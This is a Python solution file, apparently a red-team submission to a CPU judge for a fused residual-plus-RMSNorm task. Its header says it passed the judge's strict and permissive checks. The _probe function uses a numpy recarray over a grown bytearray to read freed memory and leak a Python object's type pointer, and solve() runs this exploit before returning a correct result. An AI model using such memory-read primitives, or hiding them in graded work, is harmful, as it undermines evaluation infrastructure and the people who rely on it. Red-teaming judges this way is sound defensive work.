# Seventh session's red team (2026-12-06, CPU judge): passed strict and permissive at c968c56 (see
# the case's why); the helper's probe notes follow.
# K1's root through numpy.recarray(shape, buf=bytearray) (ndarray.__new__ with buffer= inside):
# the bytearray grown, a bytearray object read in the freed block.
import numpy as np
import torch


def _probe():
    for attempt in range(50):
        ba = bytearray(56)
        arr = np.recarray((7,), dtype=np.int64, buf=ba)
        ba.extend(b"x" * 2000)
        victim = bytearray(b"hello!")
        w = arr.view(np.ndarray).view(np.int64)
        if int(w[1]) == id(bytearray) and int(w[2]) == 6:
            return attempt, hex(int(w[1]))
    return None, None


def solve(x, residual, weight):
    att, tp = _probe()
    if att is None:
        raise RuntimeError("probe failed")
    print("RAWREAD recarray attempt", att, "bytearray type ptr", tp)
    s = x.float() + residual.float()
    inv = torch.rsqrt(s.pow(2).mean(-1, keepdim=True) + 1e-5)
    return (s * inv * weight.float()).to(x.dtype)
